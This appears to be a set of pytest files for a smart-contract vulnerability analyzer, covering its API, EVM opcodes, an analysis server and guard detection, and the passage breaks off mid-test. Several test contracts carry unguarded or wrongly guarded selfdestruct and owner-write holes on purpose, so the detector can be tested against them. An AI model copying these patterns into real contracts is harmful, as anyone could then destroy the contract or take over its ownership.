            assert set(entry.kinds) == {w.kind for w in direct.warnings}

    def test_battery_aligns_with_configs(self, bytecodes):
        configs = [
            api.AnalysisConfig(),
            api.AnalysisConfig(model_guards=False),
        ]
        summaries = api.battery(bytecodes, configs)
        assert len(summaries) == 2
        assert summaries[1].flagged >= summaries[0].flagged

    def test_battery_requires_configs(self, bytecodes):
        with pytest.raises(ValueError):
            api.battery(bytecodes, [])

    def test_explicit_options_not_clobbered_by_defaults(self):
        from repro.api import _options

        options = api.OrchestratorOptions(executor="pool", max_retries=7)
        resolved = _options(
            executor=None,
            mp_context=None,
            max_retries=None,
            journal=None,
            resume=False,
            dedup=None,
            result_cache=None,
            on_event=None,
            options=options,
        )
        assert resolved.executor == "pool"
        assert resolved.max_retries == 7
        # and the caller's object is copied, not mutated
        resolved.max_retries = 1
        assert options.max_retries == 7

    def test_keywords_override_options_copy(self):
        from repro.api import _options

        options = api.OrchestratorOptions(max_retries=7)
        resolved = _options(
            executor="serial",
            mp_context=None,
            max_retries=1,
            journal="j.jsonl",
            resume=True,
            dedup=None,
            result_cache=None,
            on_event=None,
            options=options,
        )
        assert resolved.executor == "serial"
        assert resolved.max_retries == 1
        assert resolved.journal_path == "j.jsonl"
        assert resolved.resume is True
        assert options.max_retries == 7 and options.journal_path is None


class TestDeprecatedShims:
    def _collect(self, fn):
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            fn()
            fn()
        return [
            w for w in caught if issubclass(w.category, DeprecationWarning)
        ]

    def test_analyze_bytecode_warns_exactly_once(self, bytecodes):
        from repro.core.analysis import analyze_bytecode

        reset_deprecation_registry()
        caught = self._collect(lambda: analyze_bytecode(bytecodes[0]))
        assert len(caught) == 1
        assert "repro.api.analyze" in str(caught[0].message)

    def test_analyze_many_warns_exactly_once_and_matches(self, bytecodes):
        from repro.core.batch import analyze_many

        reset_deprecation_registry()
        caught = self._collect(lambda: analyze_many(bytecodes, jobs=1))
        assert len(caught) == 1
        assert "repro.api.sweep" in str(caught[0].message)
        legacy = analyze_many(bytecodes, jobs=1)
        modern = api.sweep(bytecodes)
        assert [e.kinds for e in legacy.entries] == [
            e.kinds for e in modern.entries
        ]

    def test_analyze_battery_warns_exactly_once(self, bytecodes):
        from repro.core.batch import analyze_battery

        reset_deprecation_registry()
        caught = self._collect(
            lambda: analyze_battery(bytecodes, [api.AnalysisConfig()], jobs=1)
        )
        assert len(caught) == 1
        assert "repro.api.battery" in str(caught[0].message)

    def test_supported_surface_does_not_warn(self, bytecodes):
        reset_deprecation_registry()
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            api.analyze(bytecodes[0])
            api.sweep(bytecodes[:2])
        assert not [
            w for w in caught if issubclass(w.category, DeprecationWarning)
        ]


class TestDeprecationRegistry:
    """The finalized removal list: every shim is registered with its
    exact replacement, resolves, and warns exactly once."""

    def test_every_registered_shim_resolves_and_warns_once(self):
        import importlib

        from repro._compat import (
            DEPRECATED_ENTRY_POINTS,
            warn_deprecated_entry,
        )

        assert DEPRECATED_ENTRY_POINTS  # the list is non-empty and final
        for old, new in DEPRECATED_ENTRY_POINTS.items():
            old_module, old_attr = old.rsplit(".", 1)
            shim = getattr(importlib.import_module(old_module), old_attr)
            assert callable(shim), old
            new_module, new_attr = new.rsplit(".", 1)
            replacement = getattr(importlib.import_module(new_module), new_attr)
            assert callable(replacement), new
            reset_deprecation_registry()
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                warn_deprecated_entry(old, new)
                warn_deprecated_entry(old, new)
            deprecations = [
                w for w in caught if issubclass(w.category, DeprecationWarning)
            ]
            assert len(deprecations) == 1, old
            assert new in str(deprecations[0].message)

    def test_unregistered_shim_is_a_programming_error(self):
        from repro._compat import warn_deprecated_entry

        with pytest.raises(AssertionError):
            warn_deprecated_entry("repro.core.nowhere.nothing", "repro.api.analyze")

    def test_replacements_live_on_the_public_surface(self):
        from repro._compat import DEPRECATED_ENTRY_POINTS

        for new in DEPRECATED_ENTRY_POINTS.values():
            module, attr = new.rsplit(".", 1)
            assert module == "repro.api"
            assert attr in api.__all__


class TestAnalyzeRequest:
    def test_exported_and_frozen(self):
        import dataclasses

        assert "AnalyzeRequest" in api.__all__
        request = api.AnalyzeRequest(engine="datalog")
        with pytest.raises(dataclasses.FrozenInstanceError):
            request.engine = "python"

    def test_config_matches_direct_construction(self):
        request = api.AnalyzeRequest(
            engine="datalog",
            value_analysis=True,
            deadline=30.0,
            kinds=("tainted-selfdestruct",),
            model_guards=False,
        )
        config = request.config()
        assert config == api.AnalysisConfig(
            engine="datalog",
            value_analysis=True,
            timeout_seconds=30.0,
            kinds=("tainted-selfdestruct",),
            model_guards=False,
        )

    def test_validation_is_lazy_and_loud(self):
        bad_engine = api.AnalyzeRequest(engine="nope")  # constructs fine
        with pytest.raises(ValueError, match="unknown engine"):
            bad_engine.config()
        from repro.core.vulnerabilities import UnknownKindError

        with pytest.raises(UnknownKindError):
            api.AnalyzeRequest(kinds=("not-a-kind",)).config()

    def test_runtime_from_bytecode_and_source(self, bytecodes):
        assert api.AnalyzeRequest(bytecode=bytecodes[0]).runtime() == bytecodes[0]
        source = "contract C { function f() public {} }"
        compiled = api.AnalyzeRequest(source=source).runtime()
        assert isinstance(compiled, bytes) and compiled
        with pytest.raises(ValueError, match="no contract input"):
            api.AnalyzeRequest().runtime()
        with pytest.raises(ValueError, match="not both"):
            api.AnalyzeRequest(bytecode=b"\x00", source=source).runtime()

    def test_identity_matches_sweep_identity(self, bytecodes):
        from repro.core.orchestrator import journal_key, sweep_fingerprint

        request = api.AnalyzeRequest(bytecode=bytecodes[0], engine="datalog")
        expected = journal_key(
            bytecodes[0], sweep_fingerprint((request.config(),))
        )
        assert request.identity() == expected

    def test_analyze_accepts_request(self, bytecodes):
        request = api.AnalyzeRequest(bytecode=bytecodes[0])
        direct = api.analyze(bytecodes[0])
        via_request = api.analyze(request)
        assert [w.kind for w in via_request.warnings] == [
            w.kind for w in direct.warnings
        ]
        with pytest.raises(ValueError, match="inside the AnalyzeRequest"):
            api.analyze(request, api.AnalysisConfig())

    def test_sweep_and_battery_accept_requests(self, bytecodes):
        request = api.AnalyzeRequest(engine="datalog")
        via_request = api.sweep(bytecodes[:3], request)
        direct = api.sweep(bytecodes[:3], api.AnalysisConfig(engine="datalog"))
        assert [e.kinds for e in via_request.entries] == [
            e.kinds for e in direct.entries
        ]
        battery = api.battery(bytecodes[:2], [request, api.AnalysisConfig()])
        assert len(battery) == 2
