"""EVM coverage extras: CREATE, LOG, gas forwarding, hashing helpers."""

import pytest

from repro.chain import Blockchain
from repro.evm.assembler import Op, Push, assemble, init_code_for, parse_asm
from repro.evm.hashing import function_selector, keccak, keccak_int, mapping_slot


@pytest.fixture
def chain():
    chain = Blockchain()
    chain.fund(0xA, 10**18)
    return chain


class TestCreate:
    def test_create_deploys_child(self, chain):
        # Child runtime: STOP; child init returns it.
        child_init = init_code_for(assemble([Op("STOP")]))
        # Factory: copy child init from its own code tail and CREATE.
        factory_items = parse_asm(
            """
PUSH %(size)d
@data
PUSH 0
CODECOPY
PUSH %(size)d
PUSH 0
PUSH 0
CREATE
PUSH 0
MSTORE
PUSH 32
PUSH 0
RETURN
data:
"""
            % {"size": len(child_init)}
        )
        # Drop the trailing label and splice raw child init bytes.
        from repro.evm.assembler import DataLabel, RawBytes

        factory_items = factory_items[:-1] + [DataLabel("data"), RawBytes(child_init)]
        factory = chain.deploy(0xA, init_code_for(assemble(factory_items)))
        receipt = chain.transact(0xA, factory.contract_address)
        assert receipt.success
        child_address = int.from_bytes(receipt.return_data, "big")
        assert child_address != 0
        assert chain.state.get_code(child_address) == assemble([Op("STOP")])

    def test_failed_create_pushes_zero(self, chain):
        # Init code that reverts: CREATE must push 0.
        bad_init = assemble([Op("INVALID")])
        items = parse_asm(
            """
PUSH %(size)d
@data
PUSH 0
CODECOPY
PUSH %(size)d
PUSH 0
PUSH 0
CREATE
PUSH 0
MSTORE
PUSH 32
PUSH 0
RETURN
data:
"""
            % {"size": len(bad_init)}
        )
        from repro.evm.assembler import DataLabel, RawBytes

        items = items[:-1] + [DataLabel("data"), RawBytes(bad_init)]
        factory = chain.deploy(0xA, init_code_for(assemble(items)))
        receipt = chain.transact(0xA, factory.contract_address)
        assert receipt.success
        assert int.from_bytes(receipt.return_data, "big") == 0


class TestLogs:
    def test_log_recorded(self, chain):
        runtime = assemble(
            [
                Push(0xFEED),
                Push(0),
                Op("MSTORE"),
                Push(0x1234),  # topic
                Push(32),  # size
                Push(0),  # offset
                Op("LOG1"),
                Op("STOP"),
            ]
        )
        target = chain.deploy(0xA, init_code_for(runtime)).contract_address
        receipt = chain.transact(0xA, target)
        assert receipt.success
        (log,) = receipt.result.logs
        address, topics, data = log
        assert address == target
        assert topics == [0x1234]
        assert int.from_bytes(data, "big") == 0xFEED


class TestGasForwarding:
    def test_inner_call_cannot_take_all_gas(self, chain):
        # An infinite-loop callee must not exhaust the caller's entire gas:
        # the 63/64 rule leaves the caller room to finish.
        looper = chain.deploy(
            0xA, init_code_for(assemble(parse_asm("loop:\n@loop\nJUMP")))
        ).contract_address
        items = parse_asm(
            """
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH 0
PUSH %d
GAS
CALL
PUSH 0
MSTORE
PUSH 32
PUSH 0
RETURN
"""
            % looper
        )
        outer = chain.deploy(0xA, init_code_for(assemble(items))).contract_address
        receipt = chain.transact(0xA, outer, gas=120_000)
        assert receipt.success  # outer completes despite callee OOG
        assert int.from_bytes(receipt.return_data, "big") == 0  # callee failed


class TestHashingHelpers:
    def test_keccak_is_32_bytes(self):
        assert len(keccak(b"x")) == 32

    def test_keccak_int_matches_bytes(self):
        assert keccak_int(b"x") == int.from_bytes(keccak(b"x"), "big")

    def test_selector_known_layout(self):
        selector = function_selector("kill()")
        assert selector == int.from_bytes(keccak(b"kill()")[:4], "big")

    def test_mapping_slot_layout(self):
        expected = keccak_int((5).to_bytes(32, "big") + (1).to_bytes(32, "big"))
        assert mapping_slot(5, 1) == expected
