"""The analysis-as-a-service daemon (``repro serve``).

Covers the tentpole contract: /analyze parity with ``repro analyze
--json`` (byte-identical modulo wall-clock fields), /batch NDJSON
streaming with duplicate coalescing, bounded admission (429), /metrics
counter names, graceful drain — in-process via ``request_shutdown`` and
end-to-end via SIGTERM on a real ``python -m repro serve`` subprocess —
plus the persistent pool's fault tolerance and the disk result cache
shared with ``repro sweep``.
"""

import contextlib
import http.client
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time

import pytest

from repro import api
from repro.core.orchestrator import FaultPlan, OrchestratorOptions, PersistentPool
from repro.corpus import generate_corpus
from repro.serve import AnalysisServer, ServeOptions

SRC_ROOT = os.path.join(
    os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "src"
)

VOLATILE_FIELDS = ("elapsed_seconds", "stage_seconds", "cache_hits", "cache_misses")


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(6, seed=3)


@pytest.fixture(scope="module")
def bytecodes(corpus):
    return [contract.runtime for contract in corpus]


@contextlib.contextmanager
def running_server(**overrides):
    """An AnalysisServer on a background thread, port auto-assigned."""
    import asyncio

    overrides.setdefault("port", 0)
    overrides.setdefault("jobs", 0)
    options = ServeOptions(**overrides)
    holder = {}
    ready = threading.Event()

    def run():
        async def main():
            server = AnalysisServer(options)
            await server.start()
            holder["server"] = server
            holder["port"] = server.address[1]
            ready.set()
            await server.run_until_shutdown()

        asyncio.run(main())

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    assert ready.wait(15), "server failed to start"
    try:
        yield holder["server"], holder["port"]
    finally:
        holder["server"].request_shutdown()
        thread.join(30)
        assert not thread.is_alive(), "server failed to drain"


def request(port, method, path, payload=None, timeout=120):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    body = json.dumps(payload).encode() if payload is not None else None
    conn.request(method, path, body=body)
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, data


def normalized(report_text):
    """Report JSON with the wall-clock/per-process fields zeroed, re-dumped
    with the same formatting — byte comparison then proves everything else
    (keys, order, values) identical."""
    payload = json.loads(report_text)
    for field in VOLATILE_FIELDS:
        payload[field] = None
    return json.dumps(payload, indent=2)


def cli_report_json(capsys, hex_path, *extra):
    from repro.cli import main

    code = main(["analyze", "--hex", hex_path, "--json", "-", *extra])
    assert code in (0, 1)
    return capsys.readouterr().out


class TestAnalyzeParity:
    @pytest.mark.parametrize("engine", ["python", "datalog"])
    def test_analyze_matches_cli_json(
        self, tmp_path, capsys, bytecodes, engine
    ):
        runtime = bytecodes[2]  # a flagged contract exercises warnings too
        hex_path = tmp_path / "contract.hex"
        hex_path.write_text(runtime.hex())
        cli_text = cli_report_json(capsys, str(hex_path), "--engine", engine)
        with running_server() as (_server, port):
            status, body = request(
                port,
                "POST",
                "/analyze",
                {"bytecode": runtime.hex(), "engine": engine},
            )
        assert status == 200
        served = body.decode()
        assert served.endswith("\n") and cli_text.endswith("\n")
        assert normalized(served) == normalized(cli_text)
        if engine == "datalog":
            # The full EngineStats payload (per-rule maps, stratum list)
            # survives the worker/report path — not just scalars.
            datalog = json.loads(served)["datalog"]
            assert "rule_derivations" in datalog
            assert isinstance(datalog["stratum_iterations"], list)

    def test_duplicate_request_is_byte_identical(self, bytecodes):
        with running_server() as (server, port):
            payload = {"bytecode": bytecodes[0].hex(), "name": "dup"}
            status1, first = request(port, "POST", "/analyze", payload)
            status2, second = request(port, "POST", "/analyze", payload)
            assert (status1, status2) == (200, 200)
            # The duplicate resolved from the completed-row cache: same
            # bytes, timings included, and no second analysis ran.
            assert first == second
            assert server.backend.stats.analyzed == 1
            assert server.backend.stats.report_cache_hits == 1

    def test_minisol_source_input(self):
        source = (
            "contract Owned { address owner;"
            " function set(address o) public { owner = o; } }"
        )
        with running_server() as (_server, port):
            status, body = request(port, "POST", "/analyze", {"source": source})
        assert status == 200
        assert json.loads(body)["schema_version"] == 2

    def test_client_errors_are_400(self, bytecodes):
        with running_server() as (_server, port):
            for payload in (
                {"bytecode": "zz"},
                {"bytecode": bytecodes[0].hex(), "engine": "nope"},
                {"bytecode": bytecodes[0].hex(), "kinds": ["not-a-kind"]},
                {"egnine": "python"},
                {},
            ):
                status, body = request(port, "POST", "/analyze", payload)
                assert status == 400, payload
                assert "error" in json.loads(body)
            assert request(port, "GET", "/nowhere")[0] == 404
            assert request(port, "GET", "/analyze")[0] == 405


class TestBatch:
    def test_streams_every_contract_with_indices(self, bytecodes):
        with running_server() as (_server, port):
            status, body = request(
                port,
                "POST",
                "/batch",
                {
                    "contracts": [
                        {"bytecode": b.hex(), "name": "c%d" % i}
                        for i, b in enumerate(bytecodes)
                    ]
                },
            )
        assert status == 200
        lines = [json.loads(line) for line in body.splitlines() if line]
        assert sorted(line["index"] for line in lines) == list(
            range(len(bytecodes))
        )
        for line in lines:
            assert line["report"]["schema_version"] == 2
            assert line["report"]["name"] == "c%d" % line["index"]

    def test_duplicates_coalesce_to_one_analysis(self, bytecodes):
        copies = 6
        with running_server() as (server, port):
            status, body = request(
                port,
                "POST",
                "/batch",
                {
                    "contracts": [
                        {"bytecode": bytecodes[0].hex(), "name": "same"}
                    ]
                    * copies
                },
            )
            stats = server.backend.stats
            assert stats.analyzed == 1
            assert (
                stats.coalesced + stats.report_cache_hits == copies - 1
            )
        assert status == 200
        lines = [json.loads(line) for line in body.splitlines() if line]
        assert len(lines) == copies
        reports = {json.dumps(line["report"], sort_keys=True) for line in lines}
        assert len(reports) == 1  # every duplicate got the same row

    def test_shared_overrides_apply_per_batch(self, bytecodes):
        with running_server() as (_server, port):
            status, body = request(
                port,
                "POST",
                "/batch",
                {
                    "engine": "datalog",
                    "contracts": [{"bytecode": bytecodes[2].hex()}],
                },
            )
        assert status == 200
        line = json.loads(body.splitlines()[0])
        assert line["report"]["datalog"] is not None

    def test_malformed_batch_is_400(self):
        with running_server() as (_server, port):
            assert request(port, "POST", "/batch", {})[0] == 400
            assert request(port, "POST", "/batch", {"contracts": []})[0] == 400


class TestBackpressure:
    def test_admission_full_is_429_but_duplicates_still_land(self, bytecodes):
        release = threading.Event()
        with running_server(max_queue=1) as (server, port):
            server.pool.task_hook = lambda *_args: release.wait(30)
            results = {}

            def first():
                results["first"] = request(
                    port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()}
                )

            holder = threading.Thread(target=first)
            holder.start()
            deadline = time.monotonic() + 10
            while (
                server.backend.open_requests < 1
                and time.monotonic() < deadline
            ):
                time.sleep(0.01)
            assert server.backend.open_requests == 1

            # A *different* contract cannot be admitted: 429.
            status, body = request(
                port, "POST", "/analyze", {"bytecode": bytecodes[1].hex()}
            )
            assert status == 429
            assert "queue is full" in json.loads(body)["error"]
            assert server.backend.stats.rejections == 1

            # A *duplicate* of the in-flight contract coalesces instead of
            # queueing, so it is admitted even at capacity.
            def dup():
                results["dup"] = request(
                    port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()}
                )

            joiner = threading.Thread(target=dup)
            joiner.start()
            deadline = time.monotonic() + 10
            while (
                server.backend.stats.coalesced < 1
                and time.monotonic() < deadline
            ):
                time.sleep(0.01)
            assert server.backend.stats.coalesced == 1

            release.set()
            holder.join(60)
            joiner.join(60)
            assert results["first"][0] == 200
            assert results["dup"][0] == 200
            assert results["dup"][1] == results["first"][1]


class TestMetrics:
    EXPECTED = [
        "repro_serve_requests_total",
        "repro_serve_queue_depth",
        "repro_serve_inflight_identities",
        "repro_serve_coalesced_requests_total",
        "repro_serve_report_cache_hits_total",
        "repro_serve_result_cache_hits_total",
        "repro_serve_queue_rejections_total",
        "repro_serve_uptime_seconds",
        "repro_orchestrator_workers",
        "repro_orchestrator_dispatched_total",
        "repro_orchestrator_completed_total",
        "repro_orchestrator_heartbeats_total",
        "repro_orchestrator_retries_total",
        "repro_orchestrator_crashes_total",
        "repro_orchestrator_watchdog_kills_total",
        "repro_orchestrator_recycles_total",
    ]

    def test_exposition_format_and_counter_names(self, bytecodes):
        with running_server() as (_server, port):
            request(port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()})
            request(port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()})
            status, body = request(port, "GET", "/metrics")
        assert status == 200
        text = body.decode()
        for name in self.EXPECTED:
            assert "# TYPE %s " % name in text, name
            assert re.search(r"^%s(\{[^}]*\})? \S+$" % name, text, re.M), name
        assert (
            'repro_serve_requests_total{endpoint="analyze",status="200"} 2'
            in text
        )
        assert "repro_serve_report_cache_hits_total 1" in text

    def test_duplicate_heavy_load_shows_dedup_hits(self, bytecodes):
        with running_server() as (_server, port):
            request(
                port,
                "POST",
                "/batch",
                {"contracts": [{"bytecode": bytecodes[0].hex()}] * 8},
            )
            _status, body = request(port, "GET", "/metrics")
        text = body.decode()
        coalesced = int(
            re.search(
                r"^repro_serve_coalesced_requests_total (\d+)$", text, re.M
            ).group(1)
        )
        cached = int(
            re.search(
                r"^repro_serve_report_cache_hits_total (\d+)$", text, re.M
            ).group(1)
        )
        assert coalesced + cached == 7


class TestResultCacheSharing:
    def test_sweep_result_cache_warms_the_daemon(self, tmp_path, bytecodes):
        cache_dir = str(tmp_path / "results")
        summary = api.sweep([bytecodes[0]], result_cache=cache_dir)
        sweep_entry = summary.entries[0]
        with running_server(result_cache=cache_dir) as (server, port):
            status, body = request(
                port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()}
            )
            assert status == 200
            assert server.backend.stats.result_cache_hits == 1
            assert server.backend.stats.analyzed == 0
        # The served report is the sweep's entry, byte for byte — same
        # identity, same stored row, timings included.
        from repro.serve.codecs import report_text

        assert body.decode() == report_text(
            sweep_entry, "", len(bytecodes[0])
        )

    def test_daemon_populates_the_cache_for_later_sweeps(
        self, tmp_path, bytecodes
    ):
        cache_dir = str(tmp_path / "results")
        with running_server(result_cache=cache_dir) as (_server, port):
            assert (
                request(
                    port, "POST", "/analyze", {"bytecode": bytecodes[1].hex()}
                )[0]
                == 200
            )
        summary = api.sweep([bytecodes[1]], result_cache=cache_dir)
        assert summary.orchestrator["result_cache_hits"] == 1


class TestDrain:
    def test_in_flight_request_completes_during_drain(self, bytecodes):
        with running_server() as (server, port):
            server.pool.task_hook = lambda *_args: time.sleep(0.3)
            results = {}

            def slow():
                results["response"] = request(
                    port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()}
                )

            thread = threading.Thread(target=slow)
            thread.start()
            deadline = time.monotonic() + 10
            while (
                server.backend.open_requests < 1
                and time.monotonic() < deadline
            ):
                time.sleep(0.01)
            server.request_shutdown()
            thread.join(60)
        assert results["response"][0] == 200

    def test_sigterm_drains_a_real_daemon(self, bytecodes):
        env = dict(os.environ)
        env["PYTHONPATH"] = SRC_ROOT + (
            os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else ""
        )
        process = subprocess.Popen(
            [sys.executable, "-m", "repro", "serve", "--port", "0", "--jobs", "0"],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            env=env,
            text=True,
        )
        try:
            line = process.stdout.readline()
            match = re.search(r"http://([\d.]+):(\d+)", line)
            assert match, "no listening line: %r" % line
            port = int(match.group(2))
            status, body = request(
                port, "POST", "/analyze", {"bytecode": bytecodes[0].hex()}
            )
            assert status == 200
            assert json.loads(body)["schema_version"] == 2
            process.send_signal(signal.SIGTERM)
            assert process.wait(timeout=30) == 0
        finally:
            if process.poll() is None:
                process.kill()
                process.wait(timeout=10)


class TestPersistentPool:
    def test_warm_pool_serves_mixed_configs(self, bytecodes):
        with PersistentPool(
            jobs=2, options=OrchestratorOptions(mp_context="fork")
        ) as pool:
            futures = [
                pool.submit(runtime, config)
                for runtime in bytecodes[:3]
                for config in (
                    api.AnalysisConfig(),
                    api.AnalysisConfig(engine="datalog"),
                )
            ]
            rows = [future.result(timeout=120) for future in futures]
        assert all(len(row) == 1 and row[0].error is None for row in rows)
        assert pool.stats.completed == len(futures)

    def test_transient_failures_retry_with_error_row_contract(self, bytecodes):
        options = OrchestratorOptions(
            mp_context="fork",
            fault_plan=FaultPlan(transient_failures={0: 1}),
            backoff_seconds=0.0,
        )
        with PersistentPool(jobs=1, options=options) as pool:
            row = pool.submit(bytecodes[0]).result(timeout=120)
        assert row[0].error is None
        assert row[0].attempts == 2
        assert pool.stats.retries == 1

    def test_worker_crash_charges_one_request_and_pool_survives(
        self, bytecodes
    ):
        options = OrchestratorOptions(
            mp_context="fork", fault_plan=FaultPlan(crash_indices=(0,))
        )
        with PersistentPool(jobs=1, options=options) as pool:
            crashed = pool.submit(bytecodes[0]).result(timeout=120)
            healthy = pool.submit(bytecodes[1]).result(timeout=120)
        assert crashed[0].error.startswith("worker_crashed")
        assert healthy[0].error is None
        assert pool.stats.crashes == 1

    def test_closed_pool_rejects_submissions(self, bytecodes):
        pool = PersistentPool(jobs=0)
        pool.close()
        with pytest.raises(RuntimeError, match="closed"):
            pool.submit(bytecodes[0])
