"""Guard analysis edge cases: polarity, else branches, loops, dominance."""

from repro.core import analyze_bytecode
from repro.decompiler import lift
from repro.minisol import compile_source


def kinds_of(source):
    result = analyze_bytecode(compile_source(source).runtime)
    return {w.kind for w in result.warnings}


class TestPolarity:
    def test_else_branch_of_sender_check_is_unguarded(self):
        """if (msg.sender == owner) {} else { selfdestruct } — the else
        branch runs exactly when the sender check FAILS: not guarded."""
        kinds = kinds_of(
            """
contract C {
    address owner;
    uint256 log;
    constructor() { owner = msg.sender; }
    function f() public {
        if (msg.sender == owner) {
            log = 1;
        } else {
            selfdestruct(owner);
        }
    }
}
"""
        )
        assert "accessible-selfdestruct" in kinds

    def test_then_branch_is_guarded(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function f() public {
        if (msg.sender == owner) {
            selfdestruct(owner);
        }
    }
}
"""
        )
        assert kinds == set()

    def test_double_negation_guard(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function f() public {
        require(!(!(msg.sender == owner)));
        selfdestruct(owner);
    }
}
"""
        )
        assert kinds == set()

    def test_negated_guard_does_not_protect(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function f() public {
        require(!(msg.sender == owner));
        selfdestruct(owner);
    }
}
"""
        )
        assert "accessible-selfdestruct" in kinds


class TestControlFlowShapes:
    def test_guard_after_loop_still_protects(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    uint256 acc;
    constructor() { owner = msg.sender; }
    function f(uint256 n) public {
        uint256 i = 0;
        while (i < n) { i += 1; acc += i; }
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""
        )
        assert kinds == set()

    def test_loop_body_writes_are_unguarded_taint(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    constructor() { }
    function f(address o, uint256 n) public {
        uint256 i = 0;
        while (i < n) {
            owner = o;
            i += 1;
        }
    }
    function kill() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""
        )
        assert "tainted-owner-variable" in kinds
        assert "accessible-selfdestruct" in kinds

    def test_guard_inside_one_branch_only(self):
        """The sink sits on a path where one branch checked the sender and
        the other did not: reachable via the unchecked branch."""
        kinds = kinds_of(
            """
contract C {
    address owner;
    uint256 mode;
    constructor() { owner = msg.sender; }
    function f(uint256 m) public {
        if (m == 1) {
            require(msg.sender == owner);
            mode = 1;
        } else {
            mode = 2;
        }
        selfdestruct(owner);
    }
}
"""
        )
        assert "accessible-selfdestruct" in kinds

    def test_sequential_guards_both_required(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    mapping(address => bool) admins;
    constructor() { owner = msg.sender; admins[msg.sender] = true; }
    function f() public {
        require(admins[msg.sender]);
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""
        )
        assert kinds == set()


class TestGuardThroughLocals:
    def test_sender_cached_in_local(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function f() public {
        address who = msg.sender;
        require(who == owner);
        selfdestruct(owner);
    }
}
"""
        )
        assert kinds == set()

    def test_owner_cached_in_local(self):
        kinds = kinds_of(
            """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function f() public {
        address boss = owner;
        require(msg.sender == boss);
        selfdestruct(boss);
    }
}
"""
        )
        assert kinds == set()


class TestDecompilerLoops:
    def test_while_loop_forms_cfg_cycle(self):
        source = """
contract C {
    uint256 acc;
    function f(uint256 n) public {
        uint256 i = 0;
        while (i < n) { i += 1; acc += i; }
    }
}
"""
        program = lift(compile_source(source).runtime)
        assert program.unresolved_jumps == []
        # At least one block participates in a cycle (reaches itself).
        def reaches(start, goal, seen=None):
            seen = seen or set()
            for successor in program.blocks[start].successors:
                if successor == goal:
                    return True
                if successor not in seen:
                    seen.add(successor)
                    if reaches(successor, goal, seen):
                        return True
            return False

        assert any(reaches(b, b) for b in program.blocks)
