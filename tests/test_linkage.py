"""Cross-contract analysis: bundles, call-graph linkage, merged fixpoint,
and the end-to-end exploit replay (repro.core.linkage / kill.bundle)."""

import json

import pytest

from repro import api
from repro.core.analysis import AnalysisConfig
from repro.core.linkage import (
    ContractBundle,
    analyze_bundle,
    bundle_contract,
    bundle_from_specs,
    resolve_call_edges,
)
from repro.core.report import BundleReport
from repro.core.vulnerabilities import (
    CROSS_CONTRACT_ESCALATION,
    CROSS_CONTRACT_KINDS,
    PROXY_UPGRADE_HIJACK,
    VULNERABILITY_KINDS,
)
from repro.corpus.bundles import (
    BUNDLE_TEMPLATES,
    DEPLOYER,
    LOGIC_ADDRESS,
    PROXY_ADDRESS,
    TREASURY_ADDRESS,
    TREASURY_BENEFICIARY_SLOT,
    VAULT_ADDRESS,
    benign_escalation_pair,
    benign_proxy_pair,
    escalation_pair,
    proxy_pair,
)
from repro.kill import BundleKill

ENGINES = ["datalog", "datalog-legacy"]


# ----------------------------------------------------------------- bundles


class TestContractBundle:
    def test_requires_contracts(self):
        with pytest.raises(ValueError, match="at least one"):
            ContractBundle(contracts=())

    def test_rejects_duplicate_addresses(self):
        contract = bundle_contract(0x1, bytecode=b"\x00")
        with pytest.raises(ValueError, match="duplicate"):
            ContractBundle(contracts=(contract, contract))

    def test_source_compiles_eagerly(self):
        contract = bundle_contract(
            0x5, source="contract T { function f() public { } }"
        )
        assert contract.bytecode
        assert contract.runtime() == contract.bytecode

    def test_digest_covers_storage_seeds(self):
        a = bundle_contract(0x1, bytecode=b"\x00", storage={0: 1})
        b = bundle_contract(0x1, bytecode=b"\x00", storage={0: 2})
        assert (
            ContractBundle(contracts=(a,)).digest()
            != ContractBundle(contracts=(b,)).digest()
        )

    def test_lookup(self):
        contract = bundle_contract(0x7, bytecode=b"\x00")
        bundle = ContractBundle(contracts=(contract,))
        assert bundle.has(0x7) and not bundle.has(0x8)
        assert bundle.get(0x7) is contract
        with pytest.raises(KeyError):
            bundle.get(0x8)


class TestBundleFromSpecs:
    def test_round_trip(self):
        bundle = bundle_from_specs(
            [
                {
                    "address": "0x10",
                    "source": "contract T { function f() public { } }",
                    "name": "T",
                    "storage": {"0": "0x20"},
                }
            ]
        )
        assert bundle.addresses() == [0x10]
        assert bundle.get(0x10).storage_map() == {0: 0x20}

    def test_hex_bytecode(self):
        bundle = bundle_from_specs([{"address": 1, "bytecode": "0x6000ff"}])
        assert bundle.get(1).runtime() == bytes.fromhex("6000ff")

    def test_rejects_unknown_fields(self):
        with pytest.raises(ValueError, match="unknown bundle contract field"):
            bundle_from_specs([{"address": 1, "bytecode": "00", "egnine": "x"}])

    def test_rejects_missing_input(self):
        with pytest.raises(ValueError, match="needs source or bytecode"):
            bundle_from_specs([{"address": 1}])

    def test_rejects_file_refs_without_allow_files(self):
